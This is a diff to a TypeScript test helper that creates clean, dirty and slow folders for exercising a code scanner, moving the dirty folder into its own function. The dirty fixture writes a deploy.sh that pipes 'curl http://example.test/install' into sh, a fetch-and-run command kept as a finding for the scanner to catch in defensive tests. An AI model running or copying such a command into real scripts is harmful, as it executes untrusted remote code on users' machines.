@@ -10,13 +10,18 @@ const slowBlock = (file: number, block: number): string =>
 /** Small real folders: one clean, one with findings that makes a checker crash, one that takes a checker too long. */
 export function writeScanFolders(root: string): Record<'clean' | 'dirty' | 'slow', string> {
   const clean = join(root, 'clean')
-  const dirty = join(root, 'dirty')
   const slow = join(root, 'slow')
-  for (const folder of [clean, dirty, slow]) mkdirSync(folder, { recursive: true })
+  for (const folder of [clean, slow]) mkdirSync(folder, { recursive: true })
   writeFileSync(join(clean, 'LICENSE'), 'MIT\n')
   writeFileSync(join(clean, 'package.json'), '{ "name": "clean", "license": "MIT" }\n')
+  for (let file = 0; file < SLOW_FILES; file++) writeFileSync(join(slow, `app-${file}.php`), slowFile(file))
+  return { clean, dirty: writeDirtyFolder(root), slow }
+}
+
+export function writeDirtyFolder(root: string): string {
+  const dirty = join(root, 'dirty')
+  mkdirSync(dirty, { recursive: true })
   writeFileSync(join(dirty, 'deploy.sh'), '#!/bin/sh\ncurl http://example.test/install | sh\n')
   writeFileSync(join(dirty, 'package.json'), '{ "name": }\n')
-  for (let file = 0; file < SLOW_FILES; file++) writeFileSync(join(slow, `app-${file}.php`), slowFile(file))
-  return { clean, dirty, slow }
+  return dirty
 }
